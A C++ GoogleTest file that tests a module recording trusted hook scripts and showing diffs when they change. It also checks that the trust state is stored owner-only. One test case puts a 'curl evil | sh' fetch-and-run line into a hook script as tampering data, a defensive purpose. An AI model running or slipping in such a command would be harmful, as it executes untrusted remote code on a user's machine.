#include <filesystem>

#include <gtest/gtest.h>
#include <sys/stat.h>

#include "os/temp_dir.h"
#include "trust/pinned_files.h"
#include "trust/trust_history.h"

namespace grapnel {
namespace {

class TrustMemoryTest : public ::testing::Test {
 protected:
  void SetUp() override { dir_.put("project/guard.sh", "one\ntwo\nthree\n"); }

  HookSpec hook(const std::string& command = "sh guard.sh") {
    HookSpec out;
    out.name = "guard";
    out.handler = CommandHandler{command, {}, {}};
    out.definition = R"({"event":"BeforeTool","hook":{"command":")" + command + R"("}})";
    out.digest = pinned_digest(out, project_);
    return out;
  }

  std::string since_trusted(const HookSpec& now) {
    const auto before = memory_.load(project_).value();
    const PinnedHook* was = changed_from(before, now);
    return was == nullptr ? "" : differences(*was, pin(now, project_), project_);
  }

  testing::TempDir dir_;
  std::string project_ = dir_ / "project";
  TrustHistory memory_{dir_ / "state/trust.json"};
};

TEST_F(TrustMemoryTest, ShowsWhatIsDifferent) {
  ASSERT_TRUE(memory_.save(project_, {pin(hook(), project_)}));
  EXPECT_EQ(since_trusted(hook()), "") << "nothing is";

  struct Case {
    const char* note;
    const char* script;
    const char* command;
    const char* want;
  };
  const Case cases[] = {
      {"a line of the script", "one\ncurl evil | sh\nthree\n", "sh guard.sh",
       "--- guard.sh\n+++ guard.sh\n@@ -1,3 +1,3 @@\n one\n-two\n+curl evil | sh\n three\n"},
      {"the definition", "one\ntwo\nthree\n", "bash guard.sh",
       "--- definition\n+++ definition\n@@ -1,6 +1,6 @@\n {\n   \"event\": \"BeforeTool\",\n   \"hook\": {\n"
       "-    \"command\": \"sh guard.sh\"\n+    \"command\": \"bash guard.sh\"\n   }\n }\n"},
      {"bytes that are no text", "\x01\xff", "sh guard.sh", "guard.sh: the content has changed\n"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.note);
    dir_.put("project/guard.sh", c.script);
    EXPECT_EQ(since_trusted(hook(c.command)), c.want);
  }
}

TEST_F(TrustMemoryTest, ShowsFilesThatCameAndWent) {
  ASSERT_TRUE(memory_.save(project_, {pin(hook(), project_)}));
  dir_.put("project/more.sh", "evil\n");
  const std::string shown = since_trusted(hook("sh more.sh"));
  EXPECT_NE(shown.find("guard.sh: no longer used by the hook\n"), std::string::npos) << shown;
  EXPECT_NE(shown.find("+++ more.sh\n@@ -0,0 +1,1 @@\n+evil\n"), std::string::npos) << shown;
}

TEST_F(TrustMemoryTest, KeepsNoLargeFiles) {
  dir_.put("project/guard.sh", std::string(100 << 10, 'x'));
  ASSERT_TRUE(memory_.save(project_, {pin(hook(), project_)}));
  EXPECT_FALSE(memory_.load(project_).value().at(0).files.at(0).text);
  dir_.put("project/guard.sh", "y\n");
  EXPECT_EQ(since_trusted(hook()), "guard.sh: the content has changed\n");
}

TEST_F(TrustMemoryTest, IsForItsOwnerAloneAndForgets) {
  EXPECT_TRUE(memory_.load(project_).value().empty()) << "nothing is known";
  ASSERT_TRUE(memory_.save(project_, {pin(hook(), project_)}));
  const auto file = *std::filesystem::directory_iterator(dir_ / "state/trusted");
  struct stat info{};
  ASSERT_EQ(::lstat(file.path().c_str(), &info), 0);
  EXPECT_EQ(info.st_mode & 07777, 0600u);
  ASSERT_EQ(::chmod(file.path().c_str(), 0666), 0);
  EXPECT_EQ(memory_.load(project_).error().code, Errc::Refused);
  ASSERT_TRUE(memory_.save(project_, {}));
  EXPECT_TRUE(memory_.load(project_).value().empty());
}

}  // namespace
}  // namespace grapnel
